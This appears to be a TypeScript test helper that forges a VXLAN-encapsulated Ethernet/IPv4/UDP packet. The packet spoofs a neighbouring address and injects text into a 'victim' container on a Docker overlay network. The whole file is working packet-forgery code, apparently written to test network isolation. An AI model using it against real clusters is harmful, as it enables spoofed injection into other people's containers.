/** The UDP port that a frame's datagram is for, in the container that it is forged for. */
export const forgedPort = 9999

const checksum = (header: Buffer): number => {
  let sum = 0
  for (let i = 0; i < header.length; i += 2) sum += header.readUInt16BE(i)
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16)
  return ~sum & 0xffff
}

/**
 * What a worker takes for a packet of overlay network `network` (its VNI), from a neighbour of `victim` to it: VXLAN
 * header, Ethernet frame, IPv4, UDP, text (RFC 7348). Docker makes a container's hardware address of its IP address.
 */
export const forgedFrame = (network: number, victim: string, text: string): Buffer => {
  const to = victim.split(".").map(Number)
  const from = [...to.slice(0, 3), 254]
  const payload = Buffer.from(text)
  const udp = Buffer.alloc(8)
  udp.writeUInt16BE(4000, 0)
  udp.writeUInt16BE(forgedPort, 2)
  udp.writeUInt16BE(8 + payload.length, 4)
  const ip = Buffer.alloc(20)
  ip[0] = 0x45
  ip.writeUInt16BE(28 + payload.length, 2)
  ip[8] = 64
  ip[9] = 17
  Buffer.from(from).copy(ip, 12)
  Buffer.from(to).copy(ip, 16)
  ip.writeUInt16BE(checksum(ip), 10)
  const ethernet = Buffer.from([0x02, 0x42, ...to, 0x02, 0x42, ...from, 0x08, 0x00])
  const header = Buffer.alloc(8)
  header[0] = 0x08
  header.writeUIntBE(network, 4, 3)
  return Buffer.concat([header, ethernet, ip, udp, payload])
}
